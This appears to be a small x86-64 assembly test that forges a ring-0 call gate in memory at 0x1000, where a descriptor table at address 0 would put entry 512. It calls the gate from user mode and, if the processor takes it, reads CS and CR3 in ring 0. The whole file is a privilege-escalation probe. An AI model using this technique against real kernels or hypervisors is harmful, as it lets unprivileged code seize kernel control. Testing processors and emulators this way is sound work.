/* SPDX-License-Identifier: MIT */
/*
 * Writes a call gate to 0x1000, where entry 512 of a descriptor table at address 0 would lie, and calls through it. If the processor takes the
 * gate, the instructions at `inside` run in ring 0.
 */
    .section .text.start, "ax"
    .globl _start
_start:
    leaq inside(%rip), %rax
    movw %ax, 0x1000            /* offset, low */
    movw $0x08, 0x1002          /* selector: the kernel's code */
    movw $0xec00, 0x1004        /* present, DPL 3, call gate */
    shrq $16, %rax
    movw %ax, 0x1006            /* offset, middle */
    shrq $16, %rax
    movl %eax, 0x1008           /* offset, high */
    movl $0, 0x100c
    pushq $0x1007               /* entry 512, LDT, RPL 3 */
    pushq $0
    rex.w lcall *(%rsp)
    int3
    ud2

inside:
    movl %cs, %ecx
    movq %cr3, %rdx
    int3
    ud2

    .section .note.GNU-stack, "", @progbits
